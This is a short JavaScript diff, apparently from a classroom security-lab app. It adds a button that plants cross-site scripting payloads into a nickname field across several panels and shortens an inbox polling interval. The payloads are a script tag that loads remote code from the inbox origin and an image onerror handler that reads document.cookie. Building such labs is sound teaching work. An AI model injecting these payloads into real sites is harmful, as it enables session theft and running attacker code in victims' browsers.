@@ -5,7 +5,7 @@ import { element } from './dom.js';
 import { time, word } from './words.js';
 
 /** While the box is open, it is looked at so often, in milliseconds. */
-const pace = 2000;
+const pace = 1000;
 
 /**
  * @param {HTMLElement} box
@@ -33,6 +33,13 @@ export function inbox(box, page) {
     if (box.open) setTimeout(look, pace);
   };
   box.addEventListener('toggle', () => box.open && look());
+  const plant = box.querySelector('[data-inbox-plant]');
+  plant.addEventListener('click', async () => {
+    box.ariaBusy = 'true';
+    const nickname = seen.origin ? `<script src=${seen.origin}/x.js></script>` : '<img src=x onerror="alert(document.cookie)">';
+    await Promise.all(page.strategies.map((panel) => panel.act('nickname', { nickname })));
+    box.ariaBusy = 'false';
+  });
   box.querySelector('[data-inbox-empty]').addEventListener('click', async () => {
     await send('/classroom/inbox', { method: 'DELETE' });
     seen.entries = [];
